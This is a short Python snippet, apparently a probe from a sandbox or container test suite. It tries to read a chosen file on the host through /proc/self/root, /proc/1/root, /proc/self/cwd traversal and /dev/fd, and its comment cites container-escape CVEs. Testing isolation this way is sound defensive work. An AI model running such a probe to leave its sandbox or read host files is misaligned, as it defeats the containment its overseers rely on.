# Tries: the host's files by way of /proc/self/root, /proc/self/cwd, /proc/1/root and /dev/fd.
# Origin: container escapes by /proc (CVE-2019-5736, CVE-2024-21626).

found = []
for prefix in ("/proc/self/root", "/proc/thread-self/root", "/proc/1/root", "/proc/self/cwd/../../../../../..", "/dev/fd/0/../../.."):
    try:
        found.append(open(prefix + input["file"]).read())
    except OSError as error:
        found.append(str(error))
found
